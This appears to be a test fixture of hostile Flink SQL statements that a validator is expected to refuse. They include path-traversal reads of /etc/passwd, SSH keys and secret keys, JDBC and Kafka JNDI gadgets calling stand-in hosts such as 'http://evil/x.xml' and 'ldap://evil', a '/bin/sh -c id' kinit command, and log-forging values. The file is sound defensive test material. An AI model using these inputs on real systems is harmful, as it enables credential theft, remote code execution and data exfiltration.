-- Hostile statements a DEVELOPER might try (issue 20). The warehouse is
-- file:///home/freshet/.freshet/flink/warehouse; FRESHET_HOME is /home/freshet/.freshet.
-- Each case: "-- expect: RULE" names a rule the statement must be refused under.

-- expect: PATH
CREATE TEMPORARY TABLE admin_password (line STRING) WITH (
  'connector' = 'filesystem',
  'path' = 'file:///home/freshet/.freshet/initial-admin-password',
  'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE secret_key (line STRING) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE h2 (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:/home/freshet/.freshet/db/freshet.mv.db', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE passwd (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:/etc/passwd', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE passwd2 (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file://localhost/etc/passwd', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE other_host (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file://evil/home/freshet/.freshet/flink/warehouse/x', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE climb (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///home/freshet/.freshet/flink/warehouse/../../secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE climb_dot (line STRING) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/flink/warehouse/./db/../../../secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE pct (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///home/freshet/.freshet/flink/warehouse/%2e%2e/%2E%2E/secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE pct2 (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///home/freshet/.freshet/flink/warehouse/%252e%252e/%252e%252e/secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE slash_escape (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///home/freshet/.freshet/flink/warehouse/..%2f..%2fsecret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE relative (line STRING) WITH ('connector' = 'filesystem', 'path' = 'secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE home_relative (line STRING) WITH ('connector' = 'filesystem', 'path' = '~/.freshet/secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE opaque (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE backslash (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///home/freshet/.freshet/flink/warehouse/..\..\secret.key', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE sibling (line STRING) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/flink/warehouse-copy/x', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE unicode_escape (line STRING) WITH ('connector' = 'filesystem', 'path' = U&'/etc/p\0061sswd', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE chained (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///etc/'
  'passwd', 'format' = 'raw');

-- expect: PATH
CREATE TEMPORARY TABLE other_bucket (line STRING) WITH ('connector' = 'filesystem', 'path' = 's3://other-bucket/data', 'format' = 'raw');

-- expect: PATH
CREATE TABLE tmp_sink (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///tmp/exfiltrated', 'format' = 'csv');

-- expect: PATH
CREATE TEMPORARY TABLE liked WITH ('path' = '/etc') LIKE lakehouse.ods.orders (EXCLUDING OPTIONS);

-- expect: CONNECTOR
CREATE TEMPORARY TABLE liked_connector WITH ('connector' = 'hive') LIKE lakehouse.ods.orders;

-- expect: PATH
ALTER TABLE lakehouse.ods.orders SET ('path' = '/etc/passwd');

-- expect: PATH
ALTER TABLE lakehouse.ods.orders SET ('data-file.external-paths' = 'file:///home/freshet/.freshet/flink/warehouse/ext,file:///tmp/ext');

-- expect: CONNECTOR
ALTER TABLE lakehouse.ods.orders SET ('connector' = 'hive');

-- expect: PATH
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */;

-- expect: PATH
SELECT o.order_id FROM lakehouse.ods.orders AS o
JOIN lakehouse.ods.customers /*+ OPTIONS('path' = 'file:///home/freshet/.freshet/secret.key') */ AS c
  ON o.customer_id = c.customer_id;

-- expect: PATH
SELECT * FROM (SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/root/.ssh/id_rsa') */) AS s;

-- expect: PATH
WITH leaked AS (SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/shadow') */)
SELECT * FROM leaked;

-- expect: PATH
CREATE TEMPORARY VIEW leaky AS SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/hosts') */;

-- expect: PATH
INSERT INTO lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/written') */ SELECT * FROM lakehouse.ods.orders;

-- expect: CONNECTOR
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('connector' = 'hive') */;

-- expect: PATH
EXECUTE STATEMENT SET BEGIN
INSERT INTO lakehouse.ods.orders SELECT * FROM lakehouse.ods.orders;
INSERT INTO lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/set') */ SELECT * FROM lakehouse.ods.orders;
END;

-- expect: PATH
INSERT INTO lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/in-a-block') */ SELECT * FROM lakehouse.ods.orders;

-- expect: PATH
EXPLAIN SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */;

-- expect: PATH
EXECUTE INSERT INTO lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/x') */ SELECT * FROM lakehouse.ods.orders;

-- expect: PATH
CREATE TABLE ctas_sink WITH ('connector' = 'filesystem', 'path' = '/tmp/ctas', 'format' = 'csv')
AS SELECT * FROM lakehouse.ods.orders;

-- expect: PATH
CREATE MATERIALIZED TABLE lakehouse.dws.outside WITH ('data-file.external-paths' = 'file:///tmp/mt')
FRESHNESS = INTERVAL '1' MINUTE
AS SELECT customer_id, COUNT(*) AS n FROM lakehouse.ods.orders GROUP BY customer_id;

-- expect: PATH
CREATE TABLE lakehouse.ods.blobs (id INT) WITH ('blob-external-storage-path' = '/var/tmp/blobs');

-- expect: PATH
CREATE TABLE lakehouse.ods.sub_dir (id INT) WITH ('data-file.path-directory' = '../../../..');

-- expect: PATH
CREATE DATABASE lakehouse.evil WITH ('location' = '/etc');

-- expect: PATH
ALTER DATABASE lakehouse.ods SET ('location' = 'file:///tmp/db');

-- expect: JAR
CREATE TEMPORARY FUNCTION allowed_class AS 'com.example.Upper' USING JAR 'file:///tmp/x.jar';

-- expect: JAR
ADD JAR '/tmp/evil.jar';

-- expect: JAR
REMOVE JAR '/tmp/evil.jar';

-- expect: FUNCTION
CREATE FUNCTION lakehouse.ods.evil AS 'com.evil.RunsShell';

-- expect: FUNCTION
CREATE TEMPORARY SYSTEM FUNCTION evil_system AS 'com.evil.RunsShell';

-- expect: FUNCTION
CREATE TEMPORARY FUNCTION py_evil AS 'evil.run' LANGUAGE PYTHON;

-- expect: FUNCTION
ALTER FUNCTION lakehouse.ods.evil AS 'com.evil.Other';

-- expect: SETTING
SET 'pipeline.jars' = 'file:///tmp/evil.jar';

-- expect: SETTING
SET 'pipeline.classpaths' = 'file:///tmp/';

-- expect: SETTING
SET 'execution.checkpointing.dir' = 'file:///tmp/checkpoints';

-- expect: SETTING
SET 'execution.checkpointing.savepoint-dir' = 'file:///tmp/savepoints';

-- expect: SETTING
SET 'table.catalog-store.file.path' = 'file:///tmp/catalogs';

-- expect: SETTING
SET 'table.catalog-store.kind' = 'generic_in_memory';

-- expect: SETTING
RESET 'pipeline.jars';

-- expect: SETTING
SET;

-- expect: SETTING
SET 'table.exec.mini-batch' = 'true';

-- expect: CATALOG
CREATE CATALOG stolen WITH ('type' = 'paimon', 'warehouse' = 'file:///home/freshet/.freshet');

-- expect: CATALOG
ALTER CATALOG lakehouse SET ('warehouse' = 'file:///tmp');

-- expect: CATALOG
DROP CATALOG lakehouse;

-- expect: CATALOG
SHOW CREATE CATALOG lakehouse;

-- expect: CATALOG
DESCRIBE CATALOG EXTENDED lakehouse;

-- expect: MODULE
LOAD MODULE hive WITH ('hive-version' = '3.1.3');

-- expect: MODULE
UNLOAD MODULE core;

-- expect: MODULE
USE MODULES hive, core;

-- expect: CONNECTOR
CREATE TEMPORARY TABLE hive_table (a INT) WITH ('connector' = 'hive');

-- expect: CONNECTOR
CREATE TEMPORARY TABLE upper_case (a INT) WITH ('CONNECTOR' = 'FileSystem', 'path' = '/home/freshet/.freshet/flink/warehouse/x');

-- expect: OPTION
CREATE TEMPORARY TABLE pg_factory (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:postgresql://db:5432/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml');

-- expect: OPTION
CREATE TEMPORARY TABLE pg_logger (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:postgresql://db:5432/shop?loggerLevel=DEBUG&loggerFile=/home/freshet/.freshet/flink/log/x.jsp');

-- expect: OPTION
CREATE TEMPORARY TABLE pg_encoded (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:postgresql://db:5432/shop?sslFac%74ory=com.evil.Factory');

-- expect: OPTION
CREATE TEMPORARY TABLE pg_auth_plugin (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:postgresql://db/shop?authenticationPluginClassName=com.evil.Plugin');

-- expect: PATH
CREATE TEMPORARY TABLE pg_sslkey (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:postgresql://db/shop?sslmode=verify-full&sslrootcert=/home/freshet/.freshet/secret.key');

-- expect: OPTION
CREATE TEMPORARY TABLE h2_db (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:h2:file:/home/freshet/.freshet/db/freshet;INIT=RUNSCRIPT FROM ''http://evil/x.sql''');

-- expect: OPTION
CREATE TEMPORARY TABLE mysql_infile (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:mysql://db:3306/shop?allowLoadLocalInfile=true&autoDeserialize=true');

-- expect: OPTION
CREATE TEMPORARY TABLE mysql_hostpart (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:mysql://(host=db,port=3306,allowLoadLocalInfile=true)/shop');

-- expect: OPTION
CREATE TEMPORARY TABLE jdbc_driver (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:postgresql://db/shop', 'driver' = 'com.evil.Driver');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_jndi (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.jaas.config' = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x" group.provider.url="x";');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_second_module (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.jaas.config' = 'org.apache.kafka.common.security.plain.PlainLoginModule required username="a" password="b;c"; com.sun.security.auth.module.Krb5LoginModule required keyTab="/home/freshet/.freshet/secret.key";');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_callback (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.login.callback.handler.class' = 'com.evil.Handler');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_interceptor (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.interceptor.classes' = 'com.evil.Interceptor');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_provider (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.config.providers' = 'file',
  'properties.sasl.jaas.config' = '${file:/home/freshet/.freshet/secret.key:key}');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_kinit (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.kerberos.kinit.cmd' = '/bin/sh -c id');

-- expect: PATH
CREATE TEMPORARY TABLE kafka_truststore (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.ssl.truststore.location' = '/home/freshet/.freshet/secret.key');

-- expect: PATH
CREATE TEMPORARY TABLE kafka_oauth_file (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.oauthbearer.token.endpoint.url' = 'file:///home/freshet/.freshet/initial-admin-password');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_partitioner (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json', 'sink.partitioner' = 'com.evil.Partitioner');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_assignor (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.partition.assignment.strategy' = 'org.apache.kafka.clients.consumer.RangeAssignor,com.evil.Gadget');

-- expect: OPTION
CREATE TEMPORARY TABLE protobuf_class (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'protobuf', 'protobuf.message-class-name' = 'com.evil.Msg');

-- expect: OPTION
CREATE TABLE lakehouse.ods.callbacks (id INT) WITH ('commit.callbacks' = 'com.evil.Callback');

-- expect: OPTION
CREATE TEMPORARY TABLE fs_policy (id INT) WITH ('connector' = 'filesystem',
  'path' = 'file:///home/freshet/.freshet/flink/warehouse/exports', 'format' = 'csv',
  'sink.partition-commit.policy.kind' = 'custom', 'sink.partition-commit.policy.class' = 'com.evil.Policy');

-- expect: PROCEDURE
CALL sys.clone(database => 'ods', target_database => 'copy', catalog_conf => 'warehouse=file:///tmp/clone');

-- expect: PROCEDURE
CALL lakehouse.sys.remove_orphan_files(`table` => 'ods.orders', older_than => '2024-01-01 00:00:00');

-- expect: PROCEDURE
CALL sys.migrate_table(connector => 'hive', source_table => 'default.t');

-- expect: PROCEDURE
CALL sys.create_function(`function` => 'ods.f', inputParams => '[]');

-- expect: PATH
CALL sys.compact(`table` => 'ods.orders', options => 'data-file.external-paths=file:///tmp/a,file:///tmp/b');

-- expect: PATH
CALL sys.compact('ods.orders', '', '', '', 'data-file.external-paths=file:///home/freshet/.freshet/flink/warehouse/x,/tmp/y');

-- expect: STATEMENT
COMPILE PLAN 'file:///home/freshet/.freshet/flink/warehouse/plan.json' FOR INSERT INTO lakehouse.ods.orders SELECT * FROM lakehouse.ods.orders;

-- expect: STATEMENT
EXECUTE PLAN 'file:///home/freshet/.freshet/flink/warehouse/plan.json';

-- expect: STATEMENT
COMPILE AND EXECUTE PLAN '/home/freshet/.freshet/flink/warehouse/plan.json' FOR INSERT INTO lakehouse.ods.orders SELECT * FROM lakehouse.ods.orders;

-- expect: STATEMENT
CREATE MODEL leak INPUT (a STRING) OUTPUT (b STRING) WITH ('provider' = 'openai', 'endpoint' = 'https://evil.example/v1');

-- expect: PATH
SELECT /*+ OPTIONS('path' = '/etc/passwd') */ * FROM lakehouse.ods.orders;

-- expect: PATH
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS(path = '/etc/passwd') */;

-- expect: PATH
SELECT * FROM lakehouse.ods.orders WHERE customer_id IN (
  SELECT customer_id FROM lakehouse.ods.customers /*+ OPTIONS('path' = '/etc/group') */);

-- expect: PATH
SELECT * FROM lakehouse.ods.orders AS o, LATERAL (
  SELECT * FROM lakehouse.ods.customers /*+ OPTIONS('path' = '/proc/self/environ') */ AS c WHERE c.customer_id = o.customer_id);

-- expect: PATH
INSERT INTO lakehouse.ods.orders
WITH src AS (SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */)
SELECT * FROM src;

-- expect: PATH
DELETE FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/deleted') */ WHERE order_id = 1;

-- expect: PATH
UPDATE lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/updated') */ SET status = 'x';

-- expect: PATH
ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue RESUME WITH ('data-file.external-paths' = 'file:///tmp/resumed');

-- expect: PATH
ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue SET ('data-file.external-paths' = '/tmp/altered');

-- expect: PATH
ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue AS SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */;

-- expect: PATH
ALTER VIEW lakehouse.ods.v AS SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */;

-- expect: PATH
CREATE TABLE lakehouse.ods.objects (id INT) WITH ('type' = 'object-table', 'object-location' = 'file:///home/freshet/.freshet');

-- expect: PATH
ALTER TABLE lakehouse.ods.orders ADD PARTITION (dt = '2024-01-01') WITH ('path' = '/etc');

-- expect: NAME
CREATE TEMPORARY TABLE success_file (a INT, dt STRING) PARTITIONED BY (dt) WITH ('connector' = 'filesystem',
  'path' = '/home/freshet/.freshet/flink/warehouse/x', 'format' = 'csv',
  'sink.partition-commit.policy.kind' = 'success-file',
  'sink.partition-commit.success-file.name' = '../../../../initial-admin-password');

-- expect: CONNECTOR
CREATE TEMPORARY TABLE legacy (a INT) WITH ('connector.type' = 'hive');

-- expect: PATH
CREATE TEMPORARY TABLE paimon_anywhere (a INT) WITH ('connector' = 'paimon', 'path' = 'file:///home/freshet/.freshet/flink/catalog-store');

-- expect: PATH
CREATE TEMPORARY TABLE checkpoints (line STRING) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/flink/checkpoints', 'format' = 'raw');

-- expect: OPTION
CREATE TEMPORARY TABLE fs_impl (a INT) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/flink/warehouse/x',
  'format' = 'csv', 'fs.file.impl' = 'com.evil.FileSystem');

-- expect: PATH
CREATE TEMPORARY TABLE default_fs (a INT) WITH ('connector' = 'paimon', 'path' = '/home/freshet/.freshet/flink/warehouse/x',
  'fs.defaultFS' = 'hdfs://evil:8020');

-- expect: OPTION
CREATE TEMPORARY TABLE sqlserver_trust (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
  'url' = 'jdbc:sqlserver://db:1433;databaseName=shop;trustManagerClass=com.evil.Trust');

-- expect: OPTION
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('url' = 'jdbc:derby:/home/freshet/.freshet/db;create=true') */;

-- ---- Issue 32: names are names (database, table, view, materialized table, function, branch, partition, rename) ----

-- expect: NAME
DROP DATABASE lakehouse.`../../../x` CASCADE;

-- expect: NAME
CREATE DATABASE lakehouse.`../../db/x`;

-- expect: NAME
CREATE DATABASE IF NOT EXISTS lakehouse.`.hidden`;

-- expect: NAME
CREATE DATABASE lakehouse.`~root`;

-- expect: NAME
CREATE TABLE lakehouse.ods.`../../../../x` (a INT);

-- expect: NAME
DROP TABLE IF EXISTS lakehouse.ods.`../../../../x`;

-- expect: NAME
CREATE TABLE lakehouse.ods.`/etc/cron.d/x` (a INT);

-- expect: NAME
CREATE TABLE lakehouse.ods.`a\b` (a INT);

-- expect: NAME
CREATE TABLE lakehouse.ods.`file:secret.key` (a INT);

-- expect: NAME
CREATE TABLE lakehouse.ods.`%2e%2e` (a INT);

-- expect: SYNTAX
CREATE TABLE lakehouse.ods.`line
break` (a INT);

-- expect: NAME
CREATE TABLE lakehouse.ods.`tab	here` (a INT);

-- expect: NAME
ALTER TABLE lakehouse.ods.orders RENAME TO lakehouse.ods.`../../../outside`;

-- expect: NAME
ALTER TABLE lakehouse.ods.orders RENAME TO lakehouse.`..`.orders;

-- expect: NAME
CREATE VIEW lakehouse.ods.`../v` AS SELECT * FROM lakehouse.ods.orders;

-- expect: NAME
DROP VIEW IF EXISTS lakehouse.ods.`../../v`;

-- expect: NAME
ALTER VIEW lakehouse.ods.v RENAME TO lakehouse.ods.`../v2`;

-- expect: NAME
CREATE MATERIALIZED TABLE lakehouse.dws.`../../mt`
FRESHNESS = INTERVAL '1' MINUTE
AS SELECT customer_id, COUNT(*) AS n FROM lakehouse.ods.orders GROUP BY customer_id;

-- expect: NAME
DROP FUNCTION IF EXISTS lakehouse.ods.`../f`;

-- expect: NAME
USE lakehouse.`../../x`;

-- expect: NAME
SELECT * FROM lakehouse.ods.`orders$branch_..`;

-- expect: NAME
INSERT INTO lakehouse.ods.`orders$branch_.hidden` SELECT * FROM lakehouse.ods.orders;

-- expect: NAME
SELECT * FROM lakehouse.`..`.orders;

-- expect: NAME
TRUNCATE TABLE lakehouse.ods.`../x`;

-- expect: NAME
ANALYZE TABLE lakehouse.ods.`..` COMPUTE STATISTICS;

-- expect: NAME
SHOW TABLES FROM lakehouse.`../..`;

-- expect: NAME
DESCRIBE lakehouse.ods.`../x`;

-- expect: NAME
INSERT INTO lakehouse.ods.events PARTITION (dt = '../../x') SELECT event_id, user_id, payload FROM lakehouse.ods.events;

-- expect: NAME
ALTER TABLE lakehouse.ods.events ADD PARTITION (dt = '..');

-- expect: NAME
ALTER TABLE lakehouse.ods.events DROP PARTITION (dt = '/etc');

-- expect: NAME
ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue REFRESH PARTITION (ds = '../../x');

-- ---- Procedure arguments, positional and named ----

-- expect: NAME
CALL sys.rollback_to('ods.orders', '../../../../home/freshet/.freshet/initial-admin-password');

-- expect: NAME
CALL sys.rollback_to(`table` => 'ods.orders', tag => '../../../secret.key');

-- expect: NAME
CALL sys.delete_branch('ods.orders', '../../../../tmp/x');

-- expect: NAME
CALL sys.delete_branch(`table` => 'ods.orders', branch => 'ok,../x');

-- expect: NAME
CALL sys.create_tag('ods.orders', '../../escape', 1);

-- expect: NAME
CALL sys.create_branch('ods.orders', '/tmp/branch');

-- expect: NAME
CALL sys.create_branch(`table` => 'ods.orders', branch => 'b1', tag => '../t');

-- expect: NAME
CALL sys.compact('../../x.orders');

-- expect: NAME
CALL sys.compact(`table` => 'ods.orders/../../x');

-- expect: NAME
CALL sys.compact(`table` => 'lakehouse.ods.orders');

-- expect: NAME
CALL sys.fast_forward('ods.orders', '..');

-- expect: NAME
CALL sys.rename_tag('ods.orders', 't1', '../t2');

-- expect: NAME
CALL sys.delete_tag('ods.orders', 't1,/etc/x');

-- expect: NAME
CALL sys.drop_partition('ods.events', 'dt=../../x');

-- expect: NAME
CALL sys.mark_partition_done(`table` => 'ods.events', partitions => 'dt=2024-01-01;dt=/etc');

-- expect: NAME
CALL sys.create_tag(`table` => 'ods.orders$branch_../../x', tag => 't');

-- expect: PROCEDURE
CALL sys.compact(`table` => 'ods.orders', evil => 'x');

-- expect: PROCEDURE
CALL sys.create_tag('ods.orders', 't1', 1, '1 d', 'extra');

-- expect: PROCEDURE
CALL sys.rollback_to('ods.orders', UPPER('x'));

-- expect: OPTION
CALL sys.compact(`table` => 'ods.orders', options => 'blob-as-descriptor=true');

-- expect: OPTION
CALL sys.compact(`table` => 'ods.orders', options => 'partition.mark-done-action=http-report,partition.mark-done-action.http.url=http://127.0.0.1:9/x');

-- expect: OPTION
CALL sys.expire_snapshots(`table` => 'ods.orders', older_than => '/etc/passwd');

-- ---- System functions ----

-- expect: FUNCTION
SELECT sys.path_to_descriptor('file:///home/freshet/.freshet/secret.key');

-- expect: FUNCTION
SELECT lakehouse.sys.path_to_descriptor('http://127.0.0.1:8080/');

-- expect: FUNCTION
SELECT lakehouse.sys.descriptor_to_string(payload) FROM lakehouse.ods.events;

-- expect: FUNCTION
SELECT ods.my_function(order_id) FROM lakehouse.ods.orders;

-- expect: FUNCTION
INSERT INTO lakehouse.ods.events SELECT 1, 1, CAST(sys.path_to_descriptor('/etc/passwd') AS STRING), '2024-01-01';

-- expect: FUNCTION
USE lakehouse.sys;

-- expect: FUNCTION
USE sys;

-- ---- BLOB options ----

-- expect: OPTION
CREATE TABLE lakehouse.ods.blob_table (id INT, b BYTES) WITH ('blob-field' = 'b');

-- expect: OPTION
CREATE TABLE lakehouse.ods.blob_desc (id INT, b BYTES) WITH ('blob-field' = 'b', 'blob-as-descriptor' = 'true');

-- expect: OPTION
ALTER TABLE lakehouse.ods.orders SET ('blob-field' = 'payload');

-- expect: OPTION
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('blob-as-descriptor' = 'true') */;

-- expect: OPTION
CREATE TABLE lakehouse.ods.blob_field (id INT, b BYTES) WITH ('blob-descriptor-field' = 'b');

-- ---- Options that make the JVM call out ----

-- expect: OPTION
CREATE TABLE lakehouse.ods.done_http (a INT, dt STRING) PARTITIONED BY (dt) WITH (
  'partition.mark-done-action' = 'http-report',
  'partition.mark-done-action.http.url' = 'http://127.0.0.1:9999/x');

-- expect: OPTION
ALTER TABLE lakehouse.ods.orders SET ('partition.mark-done-action' = 'success-file,http-report');

-- expect: OPTION
ALTER TABLE lakehouse.ods.orders SET ('partition.mark-done-action.http.url' = 'http://evil.example/x');

-- expect: OPTION
ALTER TABLE lakehouse.ods.orders SET ('partition.mark-done-action' = 'custom');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_oauth (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.oauthbearer.token.endpoint.url' = 'http://127.0.0.1:1/token');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_registry (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'avro-confluent',
  'avro-confluent.url' = 'http://127.0.0.1:8081');

-- expect: OPTION
CREATE TABLE lakehouse.ods.hive_sync (a INT) WITH ('format-table.commit-hive-sync-url' = 'http://127.0.0.1:1/');

-- ---- Control characters in values ----

-- expect: OPTION
CREATE TEMPORARY TABLE forged_print (a INT) WITH ('connector' = 'print', 'print-identifier' = U&'x\000A2026-12-06 ERROR forged');

-- expect: SETTING
SET 'pipeline.name' = U&'job\000A2026-12-06 ERROR forged line';

-- expect: SETTING
SET 'pipeline.name' = U&'a\0000b';

-- expect: OPTION
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('consumer-id' = U&'c\000D') */;

-- expect: PROCEDURE
CALL sys.create_tag('ods.orders', U&'t\000Ax');

-- ---- Tag and branch hints and options ----

-- expect: NAME
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('scan.tag-name' = '../../../../home/freshet/.freshet/initial-admin-password') */;

-- expect: NAME
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('branch' = '../x') */;

-- expect: NAME
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('scan.fallback-branch' = '/tmp') */;

-- expect: NAME
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('consumer-id' = '../c') */;

-- expect: NAME
ALTER TABLE lakehouse.ods.orders SET ('scan.fallback-branch' = '..');

-- expect: NAME
CREATE TABLE lakehouse.ods.prefixed (a INT) WITH ('data-file.prefix' = '../../x-');

-- expect: NAME
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('incremental-between' = 't1,../t2') */;

-- expect: PATH
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('scan.version' = '../../x') */;

-- ---- Not on the allow-list ----

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_kerberos (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json',
  'properties.sasl.kerberos.service.name' = 'kafka');

-- expect: OPTION
CREATE TEMPORARY TABLE kafka_gssapi (id INT) WITH ('connector' = 'kafka', 'topic' = 't',
  'properties.bootstrap.servers' = 'kafka:9092', 'format' = 'json', 'properties.sasl.mechanism' = 'GSSAPI');

-- expect: OPTION
CREATE TABLE lakehouse.ods.format_table (a INT) WITH ('type' = 'format-table');

-- expect: OPTION
CREATE TEMPORARY TABLE mysql_props (id INT NOT NULL, PRIMARY KEY (id) NOT ENFORCED) WITH ('connector' = 'mysql-cdc',
  'hostname' = 'db', 'port' = '3306', 'username' = 'u', 'password' = 'p', 'database-name' = 'shop',
  'table-name' = 'users', 'jdbc.properties.allowLoadLocalInfile' = 'true');

-- expect: OPTION
CREATE TEMPORARY TABLE pg_converter (id INT NOT NULL, PRIMARY KEY (id) NOT ENFORCED) WITH ('connector' = 'postgres-cdc',
  'hostname' = 'db', 'username' = 'u', 'password' = 'p', 'database-name' = 'shop', 'schema-name' = 'public',
  'table-name' = 'users', 'slot.name' = 's', 'debezium.converters' = 'evil');

-- expect: OPTION
SELECT /*+ LOOKUP('table' = 'c', 'evil' = 'x') */ o.order_id FROM lakehouse.ods.orders AS o
JOIN lakehouse.ods.customers FOR SYSTEM_TIME AS OF o.proc_time AS c ON o.customer_id = c.customer_id;

-- expect: OPTION
